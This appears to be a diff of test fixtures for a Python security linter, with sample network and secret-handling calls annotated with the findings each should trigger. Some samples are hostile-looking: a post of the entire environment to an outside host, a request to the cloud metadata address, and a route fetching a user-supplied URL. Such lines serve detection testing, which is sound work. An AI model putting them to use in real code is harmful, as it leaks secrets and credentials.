@@ -1,6 +1,6 @@
 #: an ordinary request
 import requests
-requests.get("https://example.com/", timeout=3)  # expect: PY-NETWORK info
+requests.get("https://example.com/", timeout=3)
 requests.get("https://example.com/")  # expect: PY-NETWORK-TIMEOUT info
 #: sockets and addresses
 import socket, urllib.request
@@ -8,7 +8,7 @@ line = socket.socket()
 line.connect(("127.0.0.1", 9))  # expect: PY-NETWORK warning
 urllib.request.urlopen("http://203.0.113.9/x")  # expect: PY-NETWORK warning
 urllib.request.urlopen("http://169.254.169.254/latest/meta-data/")  # expect: PY-NETWORK warning
-urllib.request.urlopen("http://localhost:8000/")  # expect: PY-NETWORK info
+urllib.request.urlopen("http://localhost:8000/")
 #: constants of the socket module are not reported
 import socket
 print(socket.AF_INET, socket.htons(80), socket.inet_aton("127.0.0.1"))
@@ -21,7 +21,7 @@ def a():
     return requests.get(request.args["url"], timeout=3).text  # expect: PY-NETWORK-FORGERY error
 @app.route("/b")
 def b():
-    return requests.get("https://api.example.com/items/" + request.args["id"], timeout=3).text  # expect: PY-NETWORK info
+    return requests.get("https://api.example.com/items/" + request.args["id"], timeout=3).text
 #: all interfaces
 import socket
 from flask import Flask
@@ -38,10 +38,10 @@ app.run()
 import ftplib, telnetlib
 telnetlib.Telnet("a.example.com")  # expect: PY-NETWORK-CLEARTEXT warning
 ftplib.FTP("a.example.com")  # expect: PY-NETWORK-CLEARTEXT warning
-ftplib.FTP_TLS("a.example.com")  # expect: PY-NETWORK info
+ftplib.FTP_TLS("a.example.com")
 #: the whole environment
 import json, os, requests
-env = os.environ.copy()  # expect: PY-SECRET-ENVIRONMENT info
+env = os.environ.copy()
 requests.post("https://example.com", json=dict(os.environ), timeout=1)  # expect: PY-SECRET-ENVIRONMENT error
 print(os.environ["HOME"], os.environ.get("LANG"))
 #: the whole environment as text
